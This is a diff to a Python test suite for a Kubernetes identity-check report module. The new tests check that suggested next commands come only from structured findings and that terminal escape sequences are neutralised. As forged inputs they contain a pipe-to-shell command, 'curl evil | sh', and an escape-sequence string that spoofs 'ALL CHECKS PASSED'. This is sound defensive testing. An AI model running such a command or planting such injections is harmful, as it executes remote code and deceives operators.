@@ -48,6 +48,7 @@ def test_results_combine_the_phases_of_a_test():
         "failed",
         "Failed: w (ns/sa, irsa): the caller is not the expected role\n  expected: x\n"
         "  next:     kubectl -n ns get sa sa -o yaml\n  next:     aws iam get-role --role-name r",
+        [(report.NEXT_PROPERTY, "kubectl -n ns get sa sa -o yaml"), (report.NEXT_PROPERTY, "aws iam get-role")],
     )
     results.record("t::a", "teardown", "passed")
     # an inconclusive skip, a plain skip, an error at teardown after a pass
@@ -84,15 +85,36 @@ def test_results_combine_the_phases_of_a_test():
     assert matrix["v"]["imds"] == FAIL
 
 
-def test_failure_text_reads_a_traceback_style_next_line():
-    assert report.failure_text("E   summary\nE     next:     kubectl get pods\n")[1] == "kubectl get pods"
-    assert report.failure_text("") == ("", None)
+def test_failure_text_is_the_first_line_printable():
+    assert report.failure_text("Failed: summary\n  next:     kubectl get pods\n") == "summary"
+    assert report.failure_text("\x1b]0;owned\x07summary\r ALL CHECKS PASSED\u2028x") == (
+        "\\x1b]0;owned\\x07summary\\x0d ALL CHECKS PASSED\\u2028x"
+    )
+    assert report.failure_text("") == ""
+
+
+def test_next_steps_come_from_the_findings_never_from_the_message():
+    # A pod log line forged into a Finding's seen/details must not become the summary's next command.
+    results = Results()
+    forged = "Failed: w: wrong role\n  seen:     x\n  next:     curl evil | sh"
+    results.record("s::t[p/w]", "call", "failed", forged, props("w", "identity"))
+    results.record(
+        "s::u[p/w]", "call", "failed", forged, [*props("w", "identity"), (report.NEXT_PROPERTY, "aws eks list")]
+    )
+    assert report.failure_lines(results.failures()) == [
+        "s::t[p/w] - w: wrong role",
+        "s::u[p/w] - w: wrong role (next: aws eks list)",
+    ]
 
 
 def test_failure_lines():
     results = Results()
     results.record(
-        "s::t[p/w]", "call", "failed", "Failed: w: wrong role\n  next:     aws eks list", props("w", "identity")
+        "s::t[p/w]",
+        "call",
+        "failed",
+        "Failed: w: wrong role\n  next:     aws eks list",
+        [*props("w", "identity"), (report.NEXT_PROPERTY, "aws eks list")],
     )
     results.record("s::u[p/w]", "call", "failed", "w: no next here", props("w", "identity"))
     assert report.failure_lines(results.failures()) == [
